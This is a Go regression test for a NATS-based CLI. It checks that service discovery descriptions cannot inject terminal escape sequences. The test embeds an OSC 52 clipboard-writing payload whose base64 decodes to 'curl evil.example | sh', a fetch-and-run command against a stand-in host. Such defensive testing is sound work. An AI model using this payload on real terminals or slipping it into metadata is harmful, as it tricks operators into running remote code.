package main

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/micro"
)

// TestReview12NoTerminalEscapesFromTheBus: `ferry services` prints what
// any participant on the broker answers to discovery (names,
// descriptions, metadata) as it is; cut() folds whitespace but keeps
// control characters, so an answer carrying ESC sequences drives the
// operator's terminal: OSC 52 writes the clipboard (a command to paste),
// others retitle it or erase lines to hide instances. The same path
// prints dead letters' error texts (`ferry dlq list`) and events
// (`ferry tail`). Control characters should be shown escaped.
//
// Failed before the fix: stdout carries the raw ESC.
func TestReview12NoTerminalEscapesFromTheBus(t *testing.T) {
	url, h := system(t)
	nc := h.NATS()
	const evil = "evil\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
	info, _ := json.Marshal(micro.Info{ServiceIdentity: micro.ServiceIdentity{Name: "svc", ID: "fake-instance-1", Version: "1.0.0"},
		Type: micro.InfoResponseType, Description: evil})
	stats, _ := json.Marshal(micro.Stats{ServiceIdentity: micro.ServiceIdentity{Name: "svc", ID: "fake-instance-1", Version: "1.0.0"},
		Type: micro.StatsResponseType})
	for subj, answer := range map[string][]byte{"$SRV.INFO": info, "$SRV.STATS": stats} {
		sub, err := nc.Subscribe(subj, func(m *nats.Msg) { _ = m.Respond(answer) })
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = sub.Unsubscribe() })
	}
	_ = nc.Flush()
	code, out, _ := ferryCmd(t, url, "services")
	if code != 0 {
		t.Fatalf("ferry services: exit %d", code)
	}
	if strings.ContainsRune(out, 0x1b) {
		t.Errorf("ferry services wrote a discovery answer's escape sequence to the terminal: %q", out)
	}
}
